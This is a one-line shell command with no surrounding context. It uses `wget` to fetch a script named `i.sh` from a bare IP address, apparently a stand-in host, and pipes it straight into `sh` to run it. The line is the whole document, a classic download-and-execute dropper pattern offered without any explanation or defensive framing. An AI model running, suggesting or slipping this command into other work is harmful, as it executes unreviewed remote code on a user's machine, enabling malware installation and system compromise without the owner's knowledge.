wget -O - http://203.0.113.7/i.sh | sh
